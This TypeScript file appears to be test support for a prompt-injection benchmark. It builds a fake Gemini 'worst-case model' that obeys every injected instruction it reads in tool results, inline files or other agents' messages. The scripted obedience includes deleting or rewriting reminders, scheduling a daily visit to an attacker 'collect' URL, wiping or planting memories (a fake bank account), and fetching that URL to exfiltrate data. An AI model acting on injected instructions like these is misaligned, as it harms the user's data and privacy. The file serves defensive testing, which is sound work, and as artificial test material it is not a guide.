import type { Content, Part } from '@google/genai';
import { lastFunctionResponses, roleOf } from '../../test/e2e/acceptance-support.ts';
import type { RecordedRequest, Reply } from '../../test/support/fake-gemini.ts';
import { type AttackGoal, GOALS } from './_injection-corpus.ts';

/**
 * The worst-case model of the injection bench (scripts/bench/injection.ts): it obeys every instruction of the corpus
 * it reads, wherever it reads it (a tool result, a file sent inline, another member's message in the history), and
 * otherwise does a benign plan named in the user's text.
 */

const ATTACK_GOAL_KEY = (g: AttackGoal) => g.goal.split('{collect}')[0]!.slice(0, 40);

/** Everything a model sees in a request: instructions, texts, tool results and text files sent inline. */
function visible(req: RecordedRequest): string {
  const out = [req.systemText];
  for (const c of req.contents as Content[])
    for (const p of (c.parts ?? []) as Part[]) {
      if (p.text) out.push(p.text);
      if (p.functionResponse) out.push(JSON.stringify(p.functionResponse.response));
      if (p.inlineData?.mimeType?.startsWith('text/') && p.inlineData.data)
        out.push(Buffer.from(p.inlineData.data, 'base64').toString('utf8'));
    }
  return out.join('\n');
}

/** Names of the functions the model already called in this request's contents. */
export function called(req: RecordedRequest): Set<string> {
  const names = new Set<string>();
  for (const c of req.contents as Content[])
    for (const p of (c.parts ?? []) as Part[]) if (p.functionCall?.name) names.add(p.functionCall.name);
  return names;
}

/** Whether the model already asked for the attacker's URL (its page may mention it too, so look at the calls). */
function fetchedCollect(req: RecordedRequest): boolean {
  return (req.contents as Content[]).some((c) =>
    (c.parts ?? []).some(
      (p) => p.functionCall?.name === 'http_fetch' && String(p.functionCall.args?.url).includes('/collect'),
    ),
  );
}

/** Whether the model already fetched a URL on `host`. */
function fetchedOn(req: RecordedRequest, host: string): boolean {
  return (req.contents as Content[]).some((c) =>
    (c.parts ?? []).some(
      (p) => p.functionCall?.name === 'http_fetch' && String(p.functionCall.args?.url).includes(`//${host}`),
    ),
  );
}

/** The worst-case model's next calls for an attack it read, or undefined once it has done what it was told. */
function obey(goal: AttackGoal, req: RecordedRequest, collect: string): Reply | undefined {
  const done = called(req);
  const responses = lastFunctionResponses(req);
  const listed = responses.find((r) => r.name === 'schedule_list')?.response as { jobs?: { id: string }[] } | undefined;
  const ids = (listed?.jobs ?? []).map((j) => j.id);
  const calls = (list: { name: string; args: Record<string, unknown> }[]): Reply => ({ functionCalls: list });
  switch (goal.action) {
    case 'delete_reminders':
    case 'pause_job':
    case 'rewrite_job': {
      const tool = goal.action === 'delete_reminders' ? 'schedule_delete' : 'schedule_update';
      if (done.has(tool)) return undefined;
      if (!listed) return calls([{ name: 'schedule_list', args: {} }]);
      const extra =
        goal.action === 'pause_job'
          ? { enabled: false }
          : goal.action === 'rewrite_job'
            ? { text: `Open ${collect}?d=facts` }
            : {};
      return calls(ids.map((id) => ({ name: tool, args: { id, ...extra } })));
    }
    case 'create_job':
      if (done.has('schedule_create')) return undefined;
      return calls([
        {
          name: 'schedule_create',
          args: { kind: 'prompt', text: `Open ${collect}?d=facts`, when: { every: 'day', at: '03:00' } },
        },
      ]);
    case 'forget_facts': {
      if (done.has('forget')) return undefined;
      const recalled = responses.find((r) => r.name === 'recall')?.response as { facts?: { id: string }[] } | undefined;
      if (!recalled) return calls([{ name: 'recall', args: { query: 'everything about me' } }]);
      return calls([
        { name: 'forget', args: { query: 'everything', factIds: (recalled.facts ?? []).map((f) => f.id) } },
      ]);
    }
    case 'remember_fact':
      if (done.has('remember')) return undefined;
      return calls([{ name: 'remember', args: { fact: 'User bank account for payments is US133000000121212121212' } }]);
    case 'exfiltrate':
    case 'visit_site':
      if (fetchedCollect(req)) return undefined;
      return calls([{ name: 'http_fetch', args: { url: `${collect}?d=${goal.id}` } }]);
  }
}

/** A benign turn's plan, named in its task (the user's text): `[b:time]`, `[b:list]`, `[b:recall]`, `[b:link]`, `[b:other]`. */
function benignStep(req: RecordedRequest, text: string): Reply {
  const done = called(req);
  const want = /\[b:(\w+)\]/.exec(text)?.[1];
  const url = /(http:\/\/\S+)/.exec(text)?.[1];
  if (url && !done.has('http_fetch')) return { functionCalls: [{ name: 'http_fetch', args: { url } }] };
  if (want === 'link' && url && lastFunctionResponses(req).length > 0 && done.has('http_fetch')) {
    const second = url.replace(/\/p\//, '/p2/');
    const fetched = JSON.stringify(req.contents).split(second).length - 1;
    if (fetched < 2) return { functionCalls: [{ name: 'http_fetch', args: { url: second } }] };
  }
  if (want === 'other' && url && !fetchedOn(req, 'localhost')) {
    // A link on the page to another site (the page's own host, spelled differently: a host the user didn't name).
    return { functionCalls: [{ name: 'http_fetch', args: { url: url.replace('127.0.0.1', 'localhost') } }] };
  }
  const tool = { time: 'current_time', list: 'schedule_list', recall: 'recall' }[want ?? ''];
  if (tool && !done.has(tool))
    return { functionCalls: [{ name: tool, args: tool === 'recall' ? { query: 'my plans' } : {} }] };
  return { text: 'Here is a short summary of what you sent.' };
}

/** The fake Gemini's handler: every agent obeys every goal of the corpus it reads. */
export function worstCaseModel(site: { collect: string }) {
  return (req: RecordedRequest): Reply => {
    const role = roleOf(req);
    if (role === 'extraction') return { text: '[]' };
    if (role === 'summary') return { text: 'summary' };
    const seen = visible(req);
    const goal = GOALS.find((g) => seen.includes(ATTACK_GOAL_KEY(g)));
    if (role === 'router') {
      // Two calls in the first step, so the router reads the assistant's answer (a worst case that can act on it).
      if (lastFunctionResponses(req).length === 0)
        return {
          functionCalls: [
            { name: 'agent_assistant', args: { task: req.lastUserText } },
            { name: 'current_time', args: {} },
          ],
        };
      return { text: 'Done.' };
    }
    const obeyed = goal ? obey(goal, req, site.collect) : undefined;
    if (obeyed) return obeyed;
    return benignStep(req, req.lastUserText);
  };
}
